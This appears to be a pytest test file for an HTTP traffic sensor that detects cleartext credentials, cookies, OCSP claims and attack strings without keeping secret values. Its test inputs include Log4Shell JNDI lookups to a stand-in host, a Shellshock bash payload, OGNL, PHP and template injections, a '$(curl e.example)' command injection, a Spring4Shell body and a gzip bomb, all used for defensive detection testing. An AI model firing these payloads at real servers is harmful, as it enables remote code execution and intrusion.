"""What a transaction gives away in the clear: by conversations, whole, byte by byte and merged."""

from __future__ import annotations

import gzip
import random
from collections.abc import Callable

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from sensor.http.attacks import MAX_TEXT
from sensor.http.cleartext import Cleartext, read_cleartext
from sensor.http.transaction import Header, HttpRequest, HttpTransaction, NotKept
from sensor.settings import HttpSettings
from tests.http.wire import FLOW, Heard, Lost, answer, ask

Hear = Callable[..., Heard]
SETTINGS = HttpSettings()
NOISE = random.Random(1).randbytes(400)
OK = b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"
OCSP_REQUEST, OCSP_RESPONSE = "application/ocsp-request", "application/ocsp-response"


def get(target: str = "/", *lines: str, host: str = "shop.example") -> bytes:
    return "\r\n".join([f"GET {target} HTTP/1.1", f"Host: {host}", *lines, "", ""]).encode("latin-1")


def post(kind: str, body: bytes, target: str = "/login", host: str = "shop.example") -> bytes:
    head = f"POST {target} HTTP/1.1\r\nHost: {host}\r\nContent-Type: {kind}\r\nContent-Length: {len(body)}\r\n\r\n"
    return head.encode() + body


def reply(kind: str, body: bytes) -> bytes:
    return f"HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body


def seen(heard: Heard, is_ocsp: bool = False) -> Cleartext | None:
    return read_cleartext(heard.only, is_ocsp, SETTINGS)


def told(hear: Hear, request: bytes, answered: bytes = OK) -> Cleartext:
    found = seen(hear(ask(request), answer(answered)))
    assert found is not None
    return found


@pytest.mark.parametrize(
    ("lines", "kind"),
    [
        (["Authorization: Basic b2xhOnNlY3JldA=="], "header:basic"),
        (["authorization: BEARER abc.def"], "header:bearer"),
        (['Authorization: Digest username="ola"'], "header:digest"),
        (["Proxy-Authorization: Basic b2xhOnNlY3JldA=="], "proxy:basic"),
        (["Authorization: Wonderful 5"], "header:other"),
        (["X-Api-Key: 0123456789"], "header:x-api-key"),
    ],
)
def test_credentials_in_headers(hear: Hear, lines: list[str], kind: str) -> None:
    found = told(hear, get("/", *lines))
    assert found.credentials == (kind,)
    assert (found.method, found.host, found.target, found.status_code) == (b"GET", b"shop.example", b"/", 200)
    assert b"secret" not in repr(found).encode()


@pytest.mark.parametrize(
    ("target", "kinds"),
    [
        ("/feed?user=ola&password=hunter2", ("query:password",)),
        ("/feed?Access_Token=abc;api-key=def", ("query:access_token", "query:api-key")),
        ("http://ola:hunter2@shop.example/", ("uri:password",)),
        ("http://ola@shop.example/", ("uri:user",)),
        ("/basket.jsp;jsessionid=0123?id=7", ("query:jsessionid",)),
        ("/basket;v=1?password=a", ("query:password",)),
    ],
)
def test_credentials_in_targets(hear: Hear, target: str, kinds: tuple[str, ...]) -> None:
    assert told(hear, get(target)).credentials == kinds


@pytest.mark.parametrize("target", ["/?password=", "/?compass=north", "/password=x", "/a@b", "/?q=password"])
def test_targets_without_credentials(hear: Hear, target: str) -> None:
    assert seen(hear(ask(get(target)), answer(OK))) is None


@pytest.mark.parametrize(
    ("kind", "body", "expected"),
    [
        ("application/x-www-form-urlencoded", b"user=ola&pwd=hunter2", "form:pwd"),
        ("application/json; charset=utf-8", b'{"user": "ola", "Password" : "hunter2"}', "json:password"),
        ("text/xml", b"<x:login><x:password type='t'>hunter2</x:password></x:login>", "xml:password"),
    ],
)
def test_credentials_in_bodies(hear: Hear, kind: str, body: bytes, expected: str) -> None:
    found = told(hear, post(kind, body))
    assert found.credentials == (expected,)
    assert found.content_type == kind
    assert b"hunter2" not in repr(found).encode()


def test_a_form_is_kept_up_to_its_limit_and_not_hashed(hear: Hear) -> None:
    limit = SETTINGS.max_form_bytes
    for size, is_kept in ((limit, True), (limit + 1, False)):
        body = b"password=x".ljust(size, b"y")
        heard = hear(ask(post("application/x-www-form-urlencoded", body)), answer(OK))
        (file,) = heard.request.files
        assert file.content == (body if is_kept else NotKept.UNWANTED)
        assert file.digests is None
        assert (seen(heard) is not None) == is_kept


def test_a_chunked_form_of_unknown_length_is_kept_up_to_its_limit(hear: Hear) -> None:
    head = b"POST / HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
    for size, is_kept in ((100, True), (20_000, False)):
        body = b'{"password":"a"}'.ljust(size)
        heard = hear(ask(head + b"%x\r\n%s\r\n0\r\n\r\n" % (size, body)), answer(OK))
        assert heard.request.files[0].content == (body if is_kept else NotKept.UNWANTED)
        assert heard.request.files[0].seen_bytes == size


def test_no_forms_at_all(hear: Hear) -> None:
    settings = HttpSettings(max_form_bytes=0)
    heard = hear(ask(post("application/json", b'{"password":"a"}')), answer(OK), settings=settings)
    assert heard.request.files[0].content is NotKept.UNWANTED


def test_a_reply_that_is_a_form_is_not_kept(hear: Hear) -> None:
    heard = hear(ask(get()), answer(reply("application/json", b'{"password":"a"}')))
    assert heard.response.files[0].content is NotKept.UNWANTED


def test_cookies_are_named(hear: Hear) -> None:
    request = get("/", "Cookie: JSESSIONID=0123456789; theme=dark; JSESSIONID=again", "Cookie: 5ecret")
    answered = b"HTTP/1.1 200 OK\r\nSet-Cookie: id=9; Path=/\r\nSet-Cookie: lang=nb\r\nContent-Length: 0\r\n\r\n"
    found = told(hear, request, answered)
    assert found.cookies == (b"JSESSIONID", b"theme")
    assert found.set_cookies == (b"id", b"lang")
    assert b"0123456789" not in repr(found).encode()
    assert b"5ecret" not in repr(found).encode()


@pytest.mark.parametrize(
    "line",
    ["User-Agent", "Referer", "X-Forwarded-For", "Cookie", "Authorization", "X-Api-Version", "Accept", "If-Range"],
)
@pytest.mark.parametrize(
    "text", ["${jndi:ldap://e.example/a}", "%24%7Bjndi:ldap://e.example/a%7D", "${${::-j}ndi:ldap://e.example/a}"]
)
def test_lookups_in_any_header(hear: Hear, line: str, text: str) -> None:
    found = told(hear, get("/", f"{line}: {text}"))
    assert found.lookups == ("jndi:ldap://e.example/a",)
    (suspect,) = found.suspect
    assert suspect.startswith((line.lower().encode() + b": $", line.lower().encode() + b": %24"))


@pytest.mark.parametrize(
    "request_", [
        get("/?x=${jndi:ldap://e.example/a}"),
        get("/$%7Bjndi:ldap:$%7B::-/%7D/e.example/a%7D"),
        get("/%24%7Bjndi:ldap://e.example/a%7D"),
        get("/%2524%257Bjndi:ldap://e.example/a%257D"),
        post("application/x-www-form-urlencoded", b"name=%24%7Bjndi:ldap://e.example/a%7D"),
        post("application/json", b'{"name": "\\u0024{jndi:ldap://e.example/a}"}'),
        post("text/plain", b"hello ${jndi:ldap://e.example/a}"),
    ],
)  # fmt: skip
@pytest.mark.parametrize("is_ocsp", [False, True])
def test_lookups_in_targets_and_bodies(hear: Hear, request_: bytes, is_ocsp: bool) -> None:
    heard = hear(ask(request_), answer(OK))
    if is_ocsp and not heard.request.target.count(b"$") and b"%24" not in heard.request.target:
        return  # a short cut: OCSP has no form, and no `$` in its target
    found = seen(heard, is_ocsp)
    assert found is not None
    assert found.lookups == ("jndi:ldap://e.example/a",)


@pytest.mark.parametrize(
    ("line", "suspect"),
    [
        ("User-Agent: () { :;}; /bin/bash -c id", b"user-agent: () { :;}"),
        ("Content-Type: %{(#_='multipart/form-data').(#x=1)}", b"content-type: %{(#_='multipart/form-data').(#x=1)}"),
        ("User-Agent: <?php system('id'); ?>", b"user-agent: <?php system('id')"),
        ("Referer: http://a/%3Cscript%3Ealert(1)", b"referer: <script>"),
        ("X-Forwarded-For: a;$(curl e.example)", b"x-forwarded-for: $(curl e.example)"),
        ("X-Name: {{7*7}}", b"x-name: {{7*7}}"),
    ],
)
def test_attacks_on_what_reads_headers(hear: Hear, line: str, suspect: bytes) -> None:
    assert told(hear, get("/", line)).suspect == (suspect,)


@pytest.mark.parametrize(
    "line",
    [
        "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:153.0) Gecko/20100101 Firefox/153.0",
        "Accept: text/html, image/gif, image/jpeg, */*; q=0.2",
        'Sec-CH-UA: "Chromium";v="156", "Not{A;Brand";v="8"',
        'X-Data: {"a": {"b": 1}}',
        "If-None-Match: W/`abc`".replace("`", '"'),
        "Link: <https://a.example/>; rel=next",
        "X-Price: $5 (about)",
    ],
)
def test_ordinary_headers(hear: Hear, line: str) -> None:
    assert seen(hear(ask(get("/", line)), answer(OK))) is None


def test_a_body_that_attacks(hear: Hear) -> None:
    body = b"class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"
    assert told(hear, post("application/x-www-form-urlencoded", body)).suspect == (b"body: " + body.partition(b"=")[0],)
    assert seen(hear(ask(post("application/json", b'{"a":{"b":{{}}}}')), answer(OK))) is None


@pytest.mark.parametrize(
    ("request_", "answered", "claims"),
    [
        (get("/", host="OCSP.c2.example"), OK, ("host",)),
        (get("/oscp/abcdef", host="ocsp.verisign.com"), OK, ("host", "path")),
        (post(OCSP_REQUEST, b"0\x03abc"), OK, ("content_type",)),
        (get("/x"), reply(OCSP_RESPONSE, b"not one"), ("resp_content_type",)),
        (get("/x"), reply(OCSP_RESPONSE + "; q=1", b"not one"), ("resp_content_type",)),
    ],
)
def test_what_claims_to_be_ocsp(hear: Hear, request_: bytes, answered: bytes, claims: tuple[str, ...]) -> None:
    heard = hear(ask(request_), answer(answered))
    found = seen(heard)
    assert found is not None
    assert found.ocsp_claims == claims
    assert seen(heard, is_ocsp=True) is None


BOMB = gzip.compress(b"\x30\x83\x10\0\0" + bytes(0x100000), mtime=0)
BROKEN = gzip.compress(b"", mtime=0)[:10] + b"\0\x90\1\x6f\xfe" + NOISE + b"\7" * 9  # behind a stored block no block


@pytest.mark.parametrize("body", [BOMB, BROKEN], ids=["bomb", "broken"])
def test_what_is_not_decoded_claims_what_it_would_otherwise(hear: Hear, body: bytes) -> None:
    """A bomb by its ratio, which OCSP with a large extension of zeros is, too; and what breaks."""
    coded = post(OCSP_REQUEST + "\r\nContent-Encoding: gzip", body)
    assert told(hear, coded).ocsp_claims == ("content_type",)
    coded = reply(OCSP_RESPONSE + "\r\nContent-Encoding: gzip", body)
    assert told(hear, get("/x"), coded).ocsp_claims == ("resp_content_type",)


@pytest.mark.parametrize("coding", ["", "\r\nContent-Encoding: gzip"], ids=["plain", "gzip"])
def test_what_is_lost_in_capture_claims_nothing(hear: Hear, coding: str) -> None:
    body = gzip.compress(NOISE, mtime=0) if coding else NOISE
    half = reply(OCSP_RESPONSE + coding, body)[:-200]
    assert seen(hear(ask(get("/x")), answer(half), answer(Lost(200)))) is None


def test_a_reply_without_its_request(hear: Hear) -> None:
    found = seen(hear(answer(b"HTTP/1.1 200 OK\r\nSet-Cookie: a=b\r\nContent-Length: 0\r\n\r\n")))
    assert found is not None
    assert (found.method, found.set_cookies) == (None, (b"a",))


def test_limits(hear: Hear) -> None:
    many = "; ".join(f"c{n}=1" for n in range(200))
    found = told(hear, get("/", f"Cookie: {many}", "X-A: ${jndi:" + "a" * 4000))
    assert len(found.cookies) == SETTINGS.max_cleartext_items
    assert found.cut
    (suspect,) = found.suspect
    assert len(suspect) == MAX_TEXT + len("x-a: ")


def test_as_many_as_there_may_be_are_all(hear: Hear) -> None:
    """And whatever comes again is no more."""
    most = SETTINGS.max_cleartext_items
    many = "; ".join(f"c{n % most}=1" for n in range(most))
    found = told(hear, get("/?password=1", f"Cookie: {many}", f"Cookie: {many}"))
    assert (len(found.cookies), found.cut) == (most, False)
    assert told(hear, get("/", f"Cookie: {many}", "Cookie: one=more")).cut
    lookups = "".join(f"${{env:A{n}}}" for n in range(4))
    fields = [f"X-{n}: {lookups.replace('A', f'B{n}')}" for n in range(5)]
    assert told(hear, get("/", *fields)).cut
    assert not told(hear, get("/", *fields[:4])).cut


texts = st.one_of(
    st.binary(max_size=60), st.sampled_from([b"${jndi:x}", b"%24%7b", b"basic x", b"a=b;c", b"() {", b"{{"])
)


@given(
    st.lists(st.tuples(st.sampled_from([b"cookie", b"authorization", b"x", b"set-cookie"]), texts)),
    texts,
    st.booleans(),
)
def test_any_bytes(headers: list[tuple[bytes, bytes]], target: bytes, is_ocsp: bool) -> None:
    fields = tuple(Header(*each) for each in headers)
    request = HttpRequest(1, b"GET", target, "1.1", None, None, fields, (), 0, True, True)
    found = read_cleartext(HttpTransaction(FLOW, 1, 1, request, None), is_ocsp, SETTINGS)
    if found is not None:
        assert any(msgspec.structs.astuple(found)[10:-1])
        assert max(len(kind) for kind in msgspec.structs.astuple(found)[10:-1]) <= SETTINGS.max_cleartext_items


@pytest.mark.parametrize("is_ocsp", [False, True])
def test_a_reply_alone(hear: Hear, is_ocsp: bool) -> None:
    """Also where OCSP was read in it: a field of it may matter."""
    plain = reply("text/html", b"<html>")
    assert seen(hear(ask(Lost(9)), answer(plain)), is_ocsp) is None
    cookie = plain.replace(b"\r\n\r\n", b"\r\nSet-Cookie: id=5\r\n\r\n", 1)
    found = seen(hear(ask(Lost(9)), answer(cookie)), is_ocsp)
    assert found is not None
    assert (found.method, found.set_cookies) == (None, (b"id",))


def test_no_other_field_is_taken_for_a_cookie(hear: Hear) -> None:
    """Neither those before nor those behind `Set-Cookie` in the alphabet."""
    others = (
        b"\r\nServer: a=b\r\nSet-Cookie2: old=1\r\nVia: c=d\r\nX-Z: e=f\r\nSet-Cookie: id=5\r\nCookie: no=1\r\n\r\n"
    )
    found = told(hear, get("/"), reply("text/html", b"").replace(b"\r\n\r\n", others, 1))
    assert (found.set_cookies, found.cookies) == ((b"id",), ())
